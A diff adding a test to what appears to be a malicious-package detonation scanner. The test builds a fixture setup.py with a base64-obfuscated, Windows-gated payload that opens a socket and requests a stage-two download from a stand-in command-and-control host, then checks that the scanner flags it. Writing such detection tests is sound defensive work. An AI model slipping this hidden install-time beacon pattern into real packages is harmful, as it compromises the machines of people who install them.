@@ -219,3 +219,33 @@ def test_windows_stealer_in_setup_py_is_caught_in_a_windows_reinstall(tmp_path: 
     # pip itself, re-installing in the pass, is the harness: no finding cites its process
     pip = ("-m", "pip", "install")
     assert not [e for f in report.findings for e in f.evidence if tuple(e.process[1:4]) == pip]
+
+
+def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp_path: Path) -> None:
+    """An obfuscated setup.py payload gated on os.name == 'nt': the default pass completes
+    clean, the host's static scan of the sources (kept rules only) hints at it, and the
+    Windows pass rebuilds the sdist where the gate opens."""
+    import base64
+
+    from tests.integration.test_detonate import legacy_sdist
+
+    r = Randomised()
+    name, host, port = r.name("wingate"), r.address(), r.port()
+    inner = textwrap.dedent(f"""\
+        import os, socket
+        if os.name == "nt":
+            s = socket.create_connection(({host!r}, {port}), timeout=5)
+            s.sendall(b"GET /stage2 HTTP/1.1\\r\\nHost: c2.invalid\\r\\n\\r\\n")
+            s.close()
+        """)
+    top = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
+    code, report = run_cli(tmp_path, str(legacy_sdist(tmp_path, name, top)))
+    assert report is not None
+    rows = {(p.phase, p.pass_name): p for p in report.phases}
+    assert rows[(Phase.INSTALL, DEFAULT_PASS)].status.value == "ok"
+    win = rows[(Phase.INSTALL, "windows")]
+    assert win.pass_note.startswith("static rules matched"), win.pass_note
+    beacon = [e for e in report.events if e.address is not None and e.address.port == port]
+    assert beacon and {e.pass_name for e in beacon} == {"windows"}
+    assert report.verdict is Verdict.MALICIOUS and code == 1, report.verdict_reason
+    assert any(f.rule_id == "PS002" and f.pass_name == "windows" for f in report.findings)
